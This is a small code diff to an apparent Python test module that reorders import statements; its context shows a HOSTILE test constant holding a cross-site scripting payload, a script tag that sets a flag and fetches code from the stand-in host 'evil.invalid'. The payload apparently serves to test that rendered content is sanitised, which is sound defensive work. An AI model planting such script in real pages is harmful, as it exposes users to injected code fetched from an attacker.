@@ -7,10 +7,11 @@ import random
 from pathlib import Path
 from typing import Any
 
-from annotate.records import content_id, output_rows, table_from_rows, text_message
-from annotate.runs import Project, Run, RunPlan
 from factories import make_project
 from loop_runs import generated, judged
+
+from annotate.records import content_id, output_rows, table_from_rows, text_message
+from annotate.runs import Project, Run, RunPlan
 
 HOSTILE = (
     "<script>window.pwned = 1; fetch('http://evil.invalid/script')</script>"
